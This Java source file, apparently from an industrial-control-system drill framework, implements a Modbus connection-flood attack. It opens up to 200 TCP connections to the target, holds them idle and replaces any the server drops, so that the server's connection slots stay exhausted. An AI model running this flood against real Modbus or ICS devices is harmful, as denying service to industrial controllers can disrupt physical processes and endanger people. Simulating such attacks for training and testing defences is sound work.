package org.icsdrill.scenario.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * Opens TCP connections from the attacker to a Modbus endpoint until the server stops accepting
 * them or {@link #MAX_CONNECTIONS} are open, and keeps them open, idle, until stopped: each takes
 * one of the server's connection slots. Connections the server drops (its idle timeout) are
 * replaced, up to the number it accepted in the first burst, so the flood does not churn.
 */
final class ConnectionFlood extends TrafficThread {

    private static final Logger LOG = LoggerFactory.getLogger(ConnectionFlood.class);
    static final int MAX_CONNECTIONS = 200;
    private static final int CONNECT_TIMEOUT_MILLIS = 500;
    /** How long the server gets to close connections it has no slot for. */
    private static final long SETTLE_MILLIS = 300;
    private static final long CHECK_EVERY_MILLIS = 1_000;

    private final String id;
    private final InetAddress from;
    private final InetSocketAddress server;
    private final List<SocketChannel> held = new ArrayList<>();
    private volatile int heldCount;
    private volatile int peak;

    ConnectionFlood(String id, InetAddress from, InetSocketAddress server) {
        super("dos-flood-" + id);
        this.id = id;
        this.from = from;
        this.server = server;
    }

    /** Connections the flood holds open now. */
    int held() {
        return heldCount;
    }

    /** The most connections held at once once the server had closed those it had no slot for. */
    int peak() {
        return peak;
    }

    @Override
    void run() {
        int target = MAX_CONNECTIONS;
        boolean first = true;
        while (running()) {
            openUpTo(target);
            if (!pause(SETTLE_MILLIS)) {
                return;
            }
            prune();
            if (first) {
                // what the server accepted is its capacity; later passes only replace dropped ones
                target = held.size();
                first = false;
                LOG.info("{}: connection flood holds {} connections to {}", id, target, server);
            }
            if (!pause(CHECK_EVERY_MILLIS)) {
                return;
            }
            prune();
        }
    }

    private void openUpTo(int target) {
        while (held.size() < target && running()) {
            SocketChannel channel = null;
            try {
                channel = SocketChannel.open();
                channel.bind(new InetSocketAddress(from, 0));
                channel.socket().connect(server, CONNECT_TIMEOUT_MILLIS);
                channel.configureBlocking(false);
                held.add(channel);
            } catch (IOException e) {
                closeQuietly(channel);
                LOG.debug("{}: connection refused after {}: {}", id, held.size(), e.toString());
                break;
            }
        }
        heldCount = held.size();
    }

    /** Drops the connections the server has closed: a non-blocking read returns -1 on them. */
    private void prune() {
        ByteBuffer sink = ByteBuffer.allocate(64);
        held.removeIf(channel -> {
            try {
                sink.clear();
                if (channel.read(sink) >= 0) {
                    return false;
                }
            } catch (IOException e) {
                // reset by the server: closed as well
            }
            closeQuietly(channel);
            return true;
        });
        heldCount = held.size();
        peak = Math.max(peak, held.size());
    }

    @Override
    void cleanUp() {
        held.forEach(ConnectionFlood::closeQuietly);
        held.clear();
        heldCount = 0;
    }

    private static void closeQuietly(SocketChannel channel) {
        if (channel != null) {
            try {
                channel.close();
            } catch (IOException e) {
                // already gone
            }
        }
    }
}
